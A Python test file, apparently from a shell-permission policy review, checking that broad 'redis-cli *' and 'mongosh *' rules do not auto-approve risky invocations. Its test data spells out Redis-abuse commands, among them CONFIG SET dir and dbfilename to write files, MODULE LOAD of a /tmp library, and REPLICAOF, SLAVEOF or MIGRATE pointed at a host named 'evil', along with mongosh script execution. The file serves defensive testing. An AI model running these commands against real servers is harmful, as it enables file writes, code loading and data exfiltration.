"""Shapes from a shell-rules review (after F179): redis-cli and mongosh under a rule naming
only the program (F180).

From the manuals (not run): redis-cli sends the server the command after its options, and with
none the lines of its standard input. CONFIG SET `dir` and `dbfilename`, then a SAVE, write the
server's dump anywhere the server may write; CONFIG REWRITE writes its configuration file;
MODULE LOAD loads a library into the server; REPLICAOF/SLAVEOF make it copy another server's
data; MIGRATE sends keys to another server. `--rdb FILE` and `--functions-rdb FILE` copy the
dump to a file here. mongosh runs JavaScript (which may `require('child_process')`) from
`--eval`, `-f`/`--file`, each `.js` operand and, given none, its standard input.
"""

import pytest

from governance.policy import Verdict
from tests.governance.policy.test_review_shell_30 import _verdict

REACHING = [
    ("redis-cli *", "redis-cli config set dir /tmp"),
    ("redis-cli *", "redis-cli -h db -p 6379 CONFIG SET dbfilename x"),
    ("redis-cli *", "redis-cli -a secret -n 2 config set dir /etc"),
    ("redis-cli *", "redis-cli config rewrite"),
    ("redis-cli *", "redis-cli module load /tmp/x.so"),
    ("redis-cli *", "redis-cli MODULE LOADEX /tmp/x.so"),
    ("redis-cli *", "redis-cli replicaof evil 6379"),
    ("redis-cli *", "redis-cli SLAVEOF evil 6379"),
    ("redis-cli *", "redis-cli migrate evil 6379 k 0 1000"),
    ("redis-cli *", "redis-cli --rdb /tmp/dump.rdb"),
    ("redis-cli *", "redis-cli --functions-rdb /tmp/f.rdb"),
    ("redis-cli *", "redis-cli -h db < cmds.txt"),
    ("redis-cli *", "cat cmds.txt | redis-cli --pipe"),
    ("redis-cli *", "echo 'config set dir /tmp' | redis-cli -h db"),
    ("redis-cli *", "redis-cli -n 1 <<'EOF'\nmodule load /tmp/x.so\nEOF"),
    ("mongosh *", "mongosh --eval 'db.x.find()'"),
    ("mongosh *", "mongosh mongodb://h/db x.js"),
    ("mongosh *", "mongosh -f x.js"),
    ("mongosh *", "mongosh --quiet --file=x.js"),
    ("mongosh *", "echo 'db.x.find()' | mongosh db"),
    ("mongosh *", "mongosh db < x.js"),
]


@pytest.mark.parametrize(("rule", "script"), REACHING)
def test_what_reaches_beyond_the_workspace_needs_a_rule_naming_it(rule, script):
    # F180: each has the server write, load or send past its data, writes outside the working
    # directory, or runs code the rule does not name
    assert _verdict(script, rule) is not Verdict.ALWAYS


HELD = [
    ("redis-cli *", "redis-cli get k"),
    ("redis-cli *", "redis-cli -h db config get dir"),
    ("redis-cli *", "redis-cli --rdb dump.rdb"),
    ("redis-cli *", "redis-cli --scan --pattern 'a*'"),
    ("redis-cli *", "redis-cli -x set k < value.txt"),
    ("redis-cli *", "echo 'get k' | redis-cli -h db"),
    ("redis-cli *", "redis-cli -h db <<'EOF'\nset k v\nget k\nEOF"),
    ("redis-cli *", "redis-cli set config set"),
    ("redis-cli *", "redis-cli --eval x.lua k , config set"),
    ("redis-cli *", "redis-cli --version < x"),
    ("redis-cli config set *", "redis-cli config set maxmemory 1gb"),
    ("mongosh *", "mongosh mongodb://h/db"),
    ("mongosh *", "mongosh --version < x"),
    ("mongosh --eval *", "mongosh --eval 'db.x.find()'"),
]


@pytest.mark.parametrize(("rule", "script"), HELD)
def test_what_stays_in_the_workspace_or_is_named_stays_allowed(rule, script):
    assert _verdict(script, rule) is Verdict.ALWAYS
